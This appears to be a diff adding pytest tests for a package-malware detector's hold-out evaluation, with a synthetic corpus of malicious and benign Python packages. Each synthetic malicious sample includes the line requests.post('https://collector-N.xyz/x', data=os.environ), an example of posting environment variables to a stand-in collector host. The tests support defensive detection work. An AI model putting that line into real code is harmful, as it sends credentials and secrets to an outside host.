@@ -1,0 +1,113 @@
+"""The family (campaign) hold-out and the payload-location hold-out: what each fold trains and tests on,
+and the per-benign-list report."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import numpy as np
+import pytest
+
+from vetpy.features.interface import PackageFeatures
+from vetpy.features.registry import FEATURE_IDS
+from vetpy.lab import holdout
+from vetpy.lab.dataset.corpus import Sample
+from vetpy.lab.evaluate import EvalData
+
+LOCATIONS = ("install", "import", "call")
+SIGNAL = {"install": "install.setup_suspicious", "import": "install.import_time_payload"}
+
+
+def corpus(n: int = 120) -> EvalData:
+    """Malware in 12 campaigns (a shared collector host each), spread over three payload locations;
+    benign packages from three lists."""
+    features, samples, labels, groups = [], [], [], []
+    for i in range(n):
+        bad = i % 2 == 0
+        values = {f: 0.0 for f in FEATURE_IDS}
+        values["archive.log_files"] = 1.0 + (i % 7) / 3
+        if bad:
+            where = LOCATIONS[(i // 2) % 3]
+            if where in SIGNAL:
+                values[SIGNAL[where]] = 1.0
+            values["code.max_file_behaviours"] = 3.0
+            values["code.http"] = 1.0
+            lines = f"requests.post('https://collector-{(i // 2) % 12}.xyz/x', data=os.environ)"
+            tokens = "call:requests.post pair:env_access+http"
+            source = "malicious"
+        else:
+            lines = "with open(path) as handle: data = handle.read()"
+            tokens = "import:json call:json.loads"
+            source = ("benign-top", "benign_recent-recent-2026", "benign_popular-top")[(i // 2) % 3]
+        features.append(PackageFeatures(f"p{i}", "1.0", values, lines, tokens))
+        samples.append(
+            Sample(int(bad), Path(f"/x/{i}"), f"{i:064x}", f"proj-{i}", "1.0", "2024-01-01", source)
+        )
+        labels.append(int(bad))
+        groups.append(f"dup{i}")
+    return EvalData(samples, features, np.array(labels), np.array(groups), 0)
+
+
+class FakeModel:
+    threshold = 0.5
+
+
+def fake_fit(calls: list[tuple[np.ndarray, np.ndarray]]) -> Any:
+    def fit_predict(kind: str, data: EvalData, tr: np.ndarray, te: np.ndarray, rs: int = 0) -> Any:
+        calls.append((tr, te))
+        return FakeModel(), data.y[te] * 0.9 + 0.05
+
+    return fit_predict
+
+
+def test_family_holdout_never_splits_a_campaign(monkeypatch: pytest.MonkeyPatch) -> None:
+    data = corpus()
+    calls: list[tuple[np.ndarray, np.ndarray]] = []
+    monkeypatch.setattr(holdout, "fit_predict", fake_fit(calls))
+    monkeypatch.setattr(holdout, "model_threshold", lambda m: 0.5)
+    result = holdout.family_holdout("default", data, folds=3)
+    groups = holdout.campaign_groups(data)
+    assert len(set(groups[data.y == 1].tolist())) == 12  # one campaign per collector host
+    for tr, te in calls:
+        assert not set(groups[tr].tolist()) & set(groups[te].tolist())
+    assert sorted(np.concatenate([te for _, te in calls]).tolist()) == list(range(len(data.y)))
+    assert result["own_threshold_recall"] == 1.0 and result["own_threshold_fp"] == 0
+    assert set(result["benign_sets"]) == {"benign", "benign_recent", "benign_popular"}
+    assert result["campaigns"] == 12
+
+
+def test_location_holdout_trains_on_one_location_and_tests_on_the_other(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    data = corpus()
+    where = holdout.payload_location(data)
+    assert set(where[data.y == 1].tolist()) == set(LOCATIONS)
+    assert set(where[data.y == 0].tolist()) == {"none"}
+    calls: list[tuple[np.ndarray, np.ndarray]] = []
+    monkeypatch.setattr(holdout, "fit_predict", fake_fit(calls))
+    monkeypatch.setattr(holdout, "model_threshold", lambda m: 0.5)
+    result = holdout.location_holdout("default", data)
+    (tr1, te1), (tr2, te2) = calls
+    assert set(where[tr1][data.y[tr1] == 1].tolist()) == {"install", "import"}
+    assert set(where[te1][data.y[te1] == 1].tolist()) == {"call"}
+    assert set(where[tr2][data.y[tr2] == 1].tolist()) == {"call"}
+    assert set(where[te2][data.y[te2] == 1].tolist()) == {"install", "import"}
+    for tr, te in calls:  # no benign project on both sides
+        assert not {data.samples[i].name for i in tr} & {data.samples[i].name for i in te}
+    assert result["malware_by_location"] == {"install": 20, "import": 20, "call": 20}
+
+
+def test_benign_sets_counts_each_list_apart() -> None:
+    sources = np.array(["malicious", "benign-top", "benign-tail", "benign_recent-recent-2026"])
+    y = np.array([1, 0, 0, 0])
+    scores = np.array([0.9, 0.95, 0.1, 0.2])
+    report = holdout.benign_sets(sources, y, scores, scores >= 0.5)
+    assert report["benign"] == {"n": 2, "fp": 1, "fpr": 0.5, "recall_at_fpr_0.1%": 0.0}
+    assert report["benign_recent"]["fp"] == 0 and report["benign_recent"]["recall_at_fpr_0.1%"] == 1.0
+
+
+def test_location_holdout_runs_a_real_model() -> None:
+    result = holdout.location_holdout("default", corpus(90))
+    first = result["runs_itself_to_call_time"]
+    assert first["n_malicious"] == 15 and 0.0 <= first["malicious_recall"] <= 1.0
